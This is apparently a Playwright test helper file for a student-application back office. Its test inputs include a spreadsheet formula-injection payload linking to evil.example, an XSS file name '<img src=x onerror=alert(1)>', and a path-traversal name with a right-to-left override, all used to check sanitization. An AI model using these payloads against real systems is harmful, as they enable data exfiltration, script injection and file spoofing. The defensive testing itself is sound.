import { randomUUID } from 'node:crypto';
import { expect, type Page } from '@playwright/test';
import sharp from 'sharp';
import type { SubmissionAnswer } from '../../src/contract/applications.ts';
import type { FollowUpValues } from '../../src/contract/follow-up.ts';
import { bearer, logIn, STAFF, verifiedAccount } from './accounts-browser.ts';
import { pdf, png } from './applications.ts';
import { apply, pdfFile } from './applications-browser.ts';

/** Helpers for cases in the back office. */

const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"click")';
export const TRANSCRIPT = pdf(20_000);
/** A file name that contains markup, and one with a path and a right-to-left override. */
const NAMES = { picture: '<img src=x onerror=alert(1)>.png', pdf: '../../transcript\u202Egpj.pdf' };
/** The same names as the API stores them. */
export const KEPT = { picture: '_img src=x onerror=alert(1)_.png', pdf: 'transcriptgpj.pdf' };

/** A student who has applied with a picture and a PDF. */
export async function newCase(page: Page) {
  const member = await verifiedAccount(page.request);
  const student = await logIn(page.request, member);
  const picture = sharp({ create: { width: 640, height: 400, channels: 3, background: '#bd1439' } });
  const answer = await apply(page.request, student, {
    first_name: 'Asha',
    last_name: FORMULA,
    email: member.email,
    contact: '+977 984-1112223',
    preferred_course: 'Bachelor of Nursing',
    'passport_documents[0][file]': {
      name: NAMES.picture,
      mimeType: 'image/png',
      buffer: await picture.png().toBuffer(),
    },
    // A picture header followed by random bytes.
    'additional_documents[0][file]': { name: 'damaged.png', mimeType: 'image/png', buffer: png() },
    'academic_documents[0][file]': { name: NAMES.pdf, mimeType: 'application/pdf', buffer: TRANSCRIPT },
  });
  return { ...answer, member, student };
}

/** A student who has applied, with a name of their own and another number than that of `newCase`. */
export async function student(page: Page, first_name: string) {
  const member = await verifiedAccount(page.request);
  const answer = await logIn(page.request, member);
  const made = await apply(page.request, answer, {
    first_name,
    last_name: 'Tamang',
    email: member.email,
    contact: '9812345670',
    preferred_course: 'Bachelor of Nursing',
  });
  return { ...made, bearer: bearer(answer) };
}

/** What a colleague has set for a new case. @param headers of the colleague; unset: the first staff account */
export async function followUp(
  page: Page,
  { id }: { id: string },
  after: Partial<FollowUpValues>,
  headers?: Record<string, string>,
): Promise<void> {
  const answer = await page.request.post(`/api/staff/applications/${id}/follow-up/`, {
    headers: headers ?? bearer(await logIn(page.request, STAFF)),
    data: { before: { counselor: null, next_step: '', next_on: null }, after },
  });
  expect(answer.status(), await answer.text()).toBe(200);
}

/** An enquiry of somebody who came in, entered by a colleague. */
export async function enquiry(page: Page, name: string, contact: string): Promise<void> {
  const answer = await page.request.post('/api/staff/enquiries/', {
    headers: bearer(await logIn(page.request, STAFF)),
    data: { ticket: randomUUID(), name, contact, source: 'walk_in' },
  });
  expect(answer.status(), await answer.text()).toBe(201);
}

/** The student of a case adds a document. */
export async function answerWith(
  page: Page,
  { id, student }: Awaited<ReturnType<typeof newCase>>,
  name: string,
) {
  const added = await page.request.post(`/api/user/applications/${id}/documents/`, {
    headers: bearer(student),
    multipart: { 'ielts_documents[0][file]': pdfFile(name) },
  });
  expect(added.status()).toBe(200);
}

export const screenOf = ({ id }: SubmissionAnswer) => `/admin/applications/${id}`;
export const question = (page: Page) => page.getByRole('dialog');
export const press = (page: Page, name: string) => page.getByRole('button', { name, exact: true }).click();
export const pressInQuestion = (page: Page, name: string) =>
  question(page).getByRole('button', { name, exact: true }).click();
